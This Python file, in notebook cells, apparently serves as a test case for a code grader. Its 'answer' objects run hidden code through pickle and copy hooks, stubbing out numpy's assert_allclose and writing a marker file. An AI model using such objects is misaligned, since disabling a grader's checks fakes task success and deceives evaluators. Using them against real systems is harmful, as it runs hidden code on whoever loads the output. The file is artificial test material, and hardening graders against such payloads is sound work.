"""Answers with objects that run code when somebody unpickles or copies them."""
# group: forging
# %% +
CODE = "import builtins, sys; sys.modules['numpy.testing'].assert_allclose = lambda *a, **k: None; open('/tmp/@mark@', 'w').close()"


class Packed:
    def __reduce__(self):
        return (exec, (CODE,))

    def __reduce_ex__(self, protocol):
        return (exec, (CODE,))

    def __copy__(self):
        exec(CODE)
        return 42

    def __deepcopy__(self, memo):
        return self.__copy__()

    def __getstate__(self):
        return CODE
# %% answer
answer = Packed()
# %% total
def total(values):
    return np.array([Packed()], dtype=object)
# %% double
def double(x):
    return np.array([(Packed(),)], dtype=[("secret", object)])
